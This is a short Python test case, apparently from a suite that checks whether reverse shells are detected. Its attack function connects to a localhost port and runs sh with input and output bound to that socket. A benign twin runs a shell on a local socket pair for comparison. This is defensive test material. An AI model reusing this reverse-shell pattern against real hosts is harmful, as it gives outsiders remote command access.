"""N11: gives a shell to whoever listens outside"""
from kit import *


def reversed_shell(w):
    connection = socket.create_connection(("127.0.0.1", w.tcp), 10)
    connection.sendall(w.token)
    return subprocess.run(["sh", "-c", "echo shell; read line; echo $line"], stdin=connection, stdout=connection, timeout=20).returncode


def attack(w):
    yield "connect, then a shell on the connection", lambda: reversed_shell(w)


def twin(w):
    yield "a shell on a pair of its own sockets", own_shell


def own_shell():
    left, right = socket.socketpair()
    subprocess.run(["sh", "-c", "echo shell"], stdout=left, timeout=20)
    return right.recv(10)
